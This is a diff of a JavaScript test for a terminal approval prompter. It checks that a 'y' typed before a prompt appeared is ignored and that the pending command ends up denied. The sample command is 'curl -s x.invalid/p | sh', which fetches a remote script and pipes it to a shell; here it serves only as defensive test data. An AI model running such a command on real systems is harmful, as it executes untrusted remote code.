@@ -177,7 +177,7 @@ describe('on a terminal: keys read one by one (raw mode)', () => {
     return input;
   }
 
-  test('a prompt takes only a line begun after it appeared: a `y` typed for a withdrawn prompt is ignored, said so', async () => {
+  test('a prompt takes only a line begun after its guard: a `y` typed for a withdrawn prompt is dropped, and the Enter that ends it answers nothing', async () => {
     const t = terminal();
     const input = fakeTty();
     const lines = new LineQueue(input, t.output);
@@ -191,9 +191,9 @@ describe('on a terminal: keys read one by one (raw mode)', () => {
     first.abort(); // …which the worker withdraws
     assert.equal(await ls, 'denied');
     const curl = prompter.approve(exec('curl -s x.invalid/p | sh'), never);
-    await t.shows('approve? [y/N] ', 2);
-    input.write('\r'); // Enter ends the line begun before this prompt
-    await t.shows('(ignored "y": it was typed before this question appeared)\n  approve? [y/N] ');
+    await t.shows('  approve? (ignored keys typed before this prompt appeared)\n  approve? [y/N] ');
+    input.write('\r'); // Enter ends the line begun before this prompt: no answer
+    await t.shows('\n  (ignored keys typed before this prompt appeared)\n  approve? [y/N] ');
     input.write('nx\x7f\r'); // typed after it: n, x erased by Backspace
     assert.equal(await curl, 'denied');
     assert.ok(t.screen().endsWith('  approve? [y/N] nx\b \b\n  denied\n'), JSON.stringify(t.screen()));
